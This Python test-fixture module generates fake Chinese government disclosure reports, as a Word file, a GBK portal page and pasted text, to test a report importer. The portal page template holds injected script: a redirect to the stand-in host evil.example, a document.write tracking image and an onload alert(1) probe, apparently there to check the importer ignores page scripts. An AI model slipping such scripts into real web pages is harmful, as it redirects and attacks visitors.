"""Published reports as clerks and portals make them, for the import tests: a Word file typed by
hand (plain styles, merges made differently, blank rows, drifted labels, the year in the page
header) and a portal page (GBK, layout tables, &nbsp;, colspan quirks, one character per line).

They are built from a draft with python-docx and plain string work, not with the app's own
renderer, so that the importer meets layouts it did not write.
"""

from __future__ import annotations

import datetime as dt
import html
import io
import itertools

from docx import Document
from docx.shared import Pt

from forms.model import Draft, Paragraph
from forms.schema import TableDef
from forms.totals import effective_values
from forms.values import format_value

#: how labels drift in print (seen in published reports): a dropped prefix, half-width
#: brackets, spaces inside, a different dash
DRIFT = {
    "行政规范性文件": "规范性文件",
    "（一）予以公开": "(一)予以公开",
    "自然人": "自 然 人",
    "其他对外管理服务事项": "其他对外管理 服务事项",
    "（七）总计": "(七) 总计",
}


def varied_report(draft: Draft, seed: int = 3) -> Draft:
    """Distinct figures in every entered cell, so that a figure in the wrong cell shows."""
    numbers = itertools.count(seed)
    for tdef in draft.fmt.tables.values():
        if not draft.table(tdef.key).included:
            continue
        for vc in tdef.entered_cells():
            n = next(numbers) % 97
            if vc.type == "money_wan":
                from decimal import Decimal

                draft.set_value(vc.id, Decimal(n) / 10)
            elif vc.type == "amount_unit":
                from decimal import Decimal

                from forms.values import Amount

                draft.set_value(vc.id, Amount(Decimal("359.3"), "万元"))
            else:
                draft.set_value(vc.id, n)
    draft.meta.signature = f"{draft.meta.org}人民政府"
    draft.meta.date = dt.date(draft.meta.year + 1, 1, 20)
    first = draft.sections[0]
    first.before = [
        Paragraph("本年度，我镇认真贯彻落实《中华人民共和国政府信息公开条例》，政府信息公开工作取得新进展。"),
        Paragraph("（一）主动公开情况", 2),
        Paragraph("全年通过政府网站主动公开政府信息，涉及财政预决算、乡村振兴等重点领域。"),
        Paragraph("1.政府网站", 3),
        Paragraph("加强政府网站信息公开专栏的日常维护。"),
    ]
    for sec in draft.sections[1:]:
        sdef = draft.fmt.section(sec.key)
        if sdef is not None and sdef.table:
            sec.after = [Paragraph(f"{sdef.title[2:]}的情况见上表，数据截至12月31日。")]
    return draft


def _label(text: str | None, drift: bool) -> str:
    text = text or ""
    return DRIFT.get(text, text) if drift else text


def _table_rows(draft: Draft, tdef: TableDef, drift: bool) -> list[list[str]]:
    """The grid as a clerk retypes it: every label repeated in each row it covers (no vertical
    merges), a horizontal merge kept as repeated text, headers one character per line."""
    shown = effective_values(draft, tdef)
    rows: list[list[str]] = []
    for r in range(len(tdef.rows)):
        row: list[str] = []
        for c in range(tdef.grid_columns):
            gc = tdef.covering(r, c)
            if gc is None:
                row.append("")
            elif gc.cell_id is not None:
                row.append(format_value(shown.get(gc.cell_id)) if (gc.row, gc.col) == (r, c) else "")
            else:
                text = _label(gc.text, drift)
                if gc.role == "header" and len(text) <= 4:
                    text = "\n".join(text)  # 自\n然\n人: a narrow printed column
                row.append(text)
        rows.append(row)
    return rows


def handmade_docx(draft: Draft) -> bytes:
    """A Word file typed by hand from the report (no heading styles, no app template)."""
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = f"{draft.meta.year}年度政府信息公开工作年度报告"
    style = doc.styles["Normal"]
    style.font.size = Pt(16)
    doc.add_paragraph("")
    doc.add_paragraph(draft.effective_title())
    for p in draft.effective_preface():
        doc.add_paragraph("\u3000\u3000" + p.text)
    for sec in draft.sections:
        doc.add_paragraph(draft.section_title(sec))
        for p in sec.before:
            doc.add_paragraph(("\u3000\u3000" if p.level == 0 else "") + p.text)
        sdef = draft.fmt.section(sec.key)
        if sdef is not None and sdef.table and draft.table(sdef.table).included:
            rows = _table_rows(draft, draft.fmt.tables[sdef.table], drift=True)
            table = doc.add_table(rows=0, cols=len(rows[0]))
            table.style = "Table Grid"
            for i, cells in enumerate(rows):
                tr = table.add_row()
                for c, text in enumerate(cells):
                    tr.cells[c].text = text
                if i == 0:
                    table.add_row()  # an empty row a clerk left under the header
            doc.add_paragraph("")
        for p in sec.after:
            doc.add_paragraph("\u3000\u3000" + p.text)
    doc.add_paragraph("")
    if draft.meta.signature:
        doc.add_paragraph(draft.meta.signature)
    if draft.meta.date:
        d = draft.meta.date
        doc.add_paragraph(f"{d.year}年{d.month}月{d.day}日")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def portal_page(draft: Draft) -> bytes:
    """The report as a county portal serves it: GBK, a layout table around the article with a
    navigation bar, &nbsp; indentation, <br> line breaks, colspan on the label cells."""
    esc = html.escape
    body: list[str] = [f'<div class="title"><b>{esc(draft.effective_title())}</b></div>']
    for p in draft.effective_preface():
        body.append(f"<p>&nbsp;&nbsp;&nbsp;&nbsp;{esc(p.text)}</p>")
    for sec in draft.sections:
        body.append(f"<p><strong>{esc(draft.section_title(sec))}</strong></p>")
        for p in sec.before:
            body.append(f"<p>&nbsp;&nbsp;{esc(p.text)}</p>")
        sdef = draft.fmt.section(sec.key)
        if sdef is not None and sdef.table and draft.table(sdef.table).included:
            tdef = draft.fmt.tables[sdef.table]
            rows = _table_rows(draft, tdef, drift=True)
            body.append('<table border="1" cellspacing="0" width="100%">')
            for r, cells in enumerate(rows):
                tds = []
                c = 0
                while c < len(cells):
                    gc = tdef.covering(r, c)
                    span = gc.colspan if gc is not None and gc.cell_id is None and gc.col == c else 1
                    text = esc(cells[c]).replace("\n", "<br>")
                    tds.append(f'<td colspan="{span}">{text or "&nbsp;"}</td>' if span > 1 else f"<td>{text}</td>")
                    c += span
                body.append("<tr>" + "".join(tds) + "</tr>")
            body.append("</table>")
        for p in sec.after:
            body.append(f"<p>{esc(p.text)}</p>")
    if draft.meta.signature:
        body.append(f'<p style="text-align:right">{esc(draft.meta.signature)}</p>')
    if draft.meta.date:
        d = draft.meta.date
        body.append(f'<p style="text-align:right">{d.year}年{d.month}月{d.day}日</p>')
    page = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312">
<title>{esc(draft.effective_title())}_政务公开</title>
<script>document.write('<img src="http://counter.example/x.gif">'); window.location='http://evil.example/';</script>
<style>.title{{font-size:22px}}</style></head>
<body onload="alert(1)"><table width="1000"><tr><td>
<table><tr><td><a href="/">首页</a></td><td><a href="/zwgk">政务公开</a></td><td>信息公开年报</td></tr></table>
</td></tr><tr><td>
{"".join(body)}
</td></tr><tr><td>主办：某县人民政府办公室　　技术支持：某某公司</td></tr></table>
</body></html>"""
    return page.encode("gb18030")


def pasted_text(draft: Draft) -> str:
    """What a browser puts on the clipboard from the report page: one line per row, cells by TAB."""
    lines = [draft.effective_title()]
    for sec in draft.sections:
        lines.append(draft.section_title(sec))
        lines += [p.text for p in sec.before]
        sdef = draft.fmt.section(sec.key)
        if sdef and sdef.table:
            grid = _table_rows(draft, draft.fmt.tables[sdef.table], True)
            lines += ["\t".join(c.replace("\n", "") for c in row) for row in grid]
        lines += [p.text for p in sec.after]
    return "\n".join(lines)
